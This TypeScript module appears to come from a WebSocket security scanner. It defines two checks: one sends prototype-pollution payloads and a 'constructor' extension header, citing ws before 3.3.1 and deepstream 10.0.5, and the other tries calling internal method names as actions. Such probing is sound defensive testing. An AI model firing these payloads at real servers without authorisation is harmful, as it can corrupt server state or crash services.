import { holds, isOpen, type PlayResult } from "../findings.js";
import type { Hole } from "../hole.js";
import type { Target } from "../target.js";

const OF_PROTOTYPES = ["__proto__", "constructor", "toString", "valueOf", "hasOwnProperty", "__defineGetter__"];
const OF_METHODS = ["close", "send", "emit", "handler", "handlers", "dispatch", "permissions", "reply", "authorize"];
const POLLUTED = "portcullisAttackWasHere";

/** ws before 3.3.1 (`constructor` as an extension), deepstream 10.0.5. */
export const prototypeNames: Hole = {
  name: "prototype-names",
  title: "names that every object has count as actions or keys",
  async play(target) {
    const verdict = await askFor(target, OF_PROTOTYPES);
    if (verdict.held !== true) return verdict;
    const client = await target.enterSurely(target.allowed, { headers: { "Sec-WebSocket-Extensions": "constructor" } });
    const key = JSON.parse(`{"__proto__":{"${POLLUTED}":true},"constructor":{"prototype":{"${POLLUTED}":true}}}`);
    const open = target.open;
    await target.ask(client, { ...open, payload: Object.defineProperties({ ...open.payload }, descriptorsOf(key)) });
    if (POLLUTED in {}) return isOpen("a key called __proto__ or constructor was merged into all objects");
    if (!(await target.isAlive())) return isOpen("the server does not answer any more");
    return verdict;
  },
};

/** ActionCable's public methods, Feathers' allow-list of methods. */
export const methodsAsActions: Hole = {
  name: "methods-as-actions",
  title: "methods that are no actions can be called",
  play: (target) => askFor(target, OF_METHODS),
};

async function askFor(target: Target, names: readonly string[]): Promise<PlayResult> {
  const client = await target.enterSurely(target.allowed);
  const messages = names.map((action) => ({ ...target.open, action }));
  const handled = await target.handledOf(client, messages);
  if (handled.length > 0) return isOpen(`handled: ${handled.map(({ action }) => action).join(", ")}`);
  return holds(`none of them is one: ${names.join(", ")}`);
}

const descriptorsOf = (record: object) => Object.getOwnPropertyDescriptors(record) as PropertyDescriptorMap;
